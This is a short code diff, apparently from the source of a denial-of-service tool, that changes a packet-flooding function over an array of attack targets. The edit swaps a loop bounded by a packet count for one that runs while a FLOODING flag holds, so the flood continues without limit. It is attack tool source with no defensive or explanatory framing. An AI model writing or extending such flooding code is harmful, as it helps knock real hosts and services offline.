@@ -109,7 +109,7 @@ static void flood(uint8_t target_count, struct attack_target *targets,
         packets[i] = calloc(PACKET_ROOM, 1);
         fill_packet(packets[i], with, between);
     }
-    while (packets_left > 0)
+    while (FLOODING)
         for (i = 0; i < target_count; i++)
             send_packet(fd, packets[i], &targets[i], with, between);
 }
